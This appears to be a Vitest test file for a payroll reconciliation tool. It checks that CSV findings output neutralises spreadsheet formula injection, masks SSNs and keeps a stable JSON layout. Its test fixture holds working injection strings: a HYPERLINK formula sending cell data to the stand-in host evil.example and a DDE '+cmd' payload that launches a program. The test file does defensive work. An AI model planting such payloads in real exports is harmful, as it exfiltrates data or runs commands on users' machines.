import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/index.js';
import { writeFindings } from '../../src/report/findingsOutput.js';

const out = () => mkdtempSync(join(tmpdir(), 'payrecon-findings-'));

const hostile: Finding = {
  severity: 'error',
  code: 'UNKNOWN_EMPLOYEE',
  employee_id: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  pay_date: '2026-01-09',
  item: '@SUM(A1:A9)',
  expected: '',
  actual: '-12.50',
  difference: '',
  message: '+cmd|" /C calc"!A0 paid on 2026-01-09',
  rule: '-2+3',
};

describe('findings.csv is safe to open in Excel', () => {
  it('input-derived cells starting with = + - @ get a leading apostrophe; our own numbers do not', () => {
    const dir = out();
    writeFindings(dir, [hostile]);
    const rows = parse(readFileSync(join(dir, 'findings.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    const r = rows[0]!;
    expect(r.employee_id).toBe(`'${hostile.employee_id}`);
    expect(r.item).toBe("'@SUM(A1:A9)");
    expect(r.message!.startsWith("'+cmd")).toBe(true);
    expect(r.rule).toBe("'-2+3");
    expect(r.actual).toBe('-12.50');
    for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@]/);
  });
});

describe('SSNs are masked unless --show-pii', () => {
  const f: Finding = {
    severity: 'error',
    code: 'REJECTED_ROW',
    employee_id: '900-14-2201',
    message: 'register.csv, line 4, column "SSN": expected an amount (found "900-14-2201")',
    details: { problems: [{ message: 'found "900142201"' }] },
  };

  it('masks in findings.csv and findings.json, keeping the last four digits', () => {
    const dir = out();
    writeFindings(dir, [f]);
    const csv = readFileSync(join(dir, 'findings.csv'), 'utf8');
    const json = readFileSync(join(dir, 'findings.json'), 'utf8');
    for (const text of [csv, json]) {
      expect(text).not.toContain('900-14-2201');
      expect(text).not.toContain('900142201');
      expect(text).toContain('***-**-2201');
    }
    const j = JSON.parse(json) as { findings: Array<{ employee_id: string; details: { problems: Array<{ message: string }> } }> };
    expect(j.findings[0]!.employee_id).toBe('***-**-2201');
    expect(j.findings[0]!.details.problems[0]!.message).toBe('found "***-**-2201"');
  });

  it('shows them with showPii', () => {
    const dir = out();
    writeFindings(dir, [f], { showPii: true });
    expect(readFileSync(join(dir, 'findings.csv'), 'utf8')).toContain('900-14-2201');
    expect(readFileSync(join(dir, 'findings.json'), 'utf8')).toContain('900142201');
  });
});

describe('findings.json', () => {
  it('carries the schema name and version, the meta block and the findings in a stable order', () => {
    const dir = out();
    const a: Finding = { severity: 'warning', code: 'WAGES_MISMATCH', employee_id: 'E2', pay_date: '2026-01-09', item: 'us.fit.wages', message: 'w' };
    const b: Finding = { severity: 'error', code: 'AMOUNT_MISMATCH', employee_id: 'E1', pay_date: '2026-01-16', item: 'us.fit', message: 'a' };
    writeFindings(dir, [a, b], { meta: { command: 'reconcile', summary: { x: 1 } } });
    const j = JSON.parse(readFileSync(join(dir, 'findings.json'), 'utf8')) as Record<string, unknown> & { findings: Array<{ code: string }> };
    expect(j).toMatchObject({ schema: 'payrecon/findings', version: '1.0', command: 'reconcile', summary: { x: 1 } });
    expect(j.findings.map((x) => x.code)).toEqual(['AMOUNT_MISMATCH', 'WAGES_MISMATCH']);
    expect(Object.keys(j.findings[0]!)).toEqual(['severity', 'code', 'employee_id', 'pay_date', 'item', 'expected', 'actual', 'difference', 'message', 'rule']);
  });
});
